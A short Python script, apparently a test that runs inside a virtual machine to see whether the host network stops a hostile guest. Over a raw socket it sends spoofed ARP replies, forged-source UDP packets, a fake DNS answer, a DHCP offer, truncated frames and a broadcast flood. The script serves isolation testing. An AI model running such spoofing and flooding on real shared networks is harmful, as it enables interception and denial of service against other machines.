"""Frames of a hostile guest, sent by hand. Runs in a machine on a network: standard library only.

python3 - CARD MAC IPV4 VICTIM_MAC VICTIM_IPV4 RESOLVER_IPV4
"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys

CARD, MAC, IPV4, VICTIM_MAC, VICTIM_IPV4, RESOLVER = sys.argv[1:]
BROADCAST = b"\xff" * 6


def mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def arp(operation: int, sender_mac: bytes, sender: str, target: str) -> bytes:
    head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
    return head + sender_mac + socket.inet_aton(sender) + bytes(6) + socket.inet_aton(target)


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp(source: str, target: str, from_port: int, port: int, body: bytes) -> bytes:
    datagram = struct.pack("!HHHH", from_port, port, 8 + len(body), 0) + body
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0)
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    whole = head[:10] + struct.pack("!H", checksum(head + ends)) + ends
    return whole + datagram


own, victim = mac(MAC), mac(VICTIM_MAC)
ARP, IP, VLAN_0 = b"\x08\x06", b"\x08\x00", b"\x81\x00\x00\x00"
attacks = {
    "another machine's MAC address": BROADCAST + victim + ARP + arp(1, victim, VICTIM_IPV4, IPV4),
    "an ARP answer for another machine": BROADCAST + own + ARP + arp(2, own, VICTIM_IPV4, VICTIM_IPV4),
    "an ARP answer for the switch": victim + own + ARP + arp(2, own, RESOLVER, VICTIM_IPV4),
    "the same with a tag": victim + own + VLAN_0 + ARP + arp(2, own, RESOLVER, VICTIM_IPV4),
    "a packet from another machine": victim + own + IP + udp(VICTIM_IPV4, VICTIM_IPV4, 7, 4000, b"spoofed"),
    "a DNS answer of the switch": victim + own + IP + udp(RESOLVER, VICTIM_IPV4, 53, 4000, b"spoofed"),
    "a DHCP answer": victim + own + IP + udp(IPV4, "255.255.255.255", 67, 68, bytes(240)),
    "a frame that is cut off": (victim + own + IP)[:13],
    "a packet that is cut off": victim + own + IP + b"\x45\0",
}
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
    link.bind((CARD, 0))
    for what, frame in attacks.items():
        try:
            link.send(frame)
        except OSError as error:  # the guest's own kernel refuses it
            print(f"{what}: {error}")
    for _ in range(5000):  # a flood
        with contextlib.suppress(OSError):
            link.send(BROADCAST + own + b"\x88\xb5" + bytes(1000))
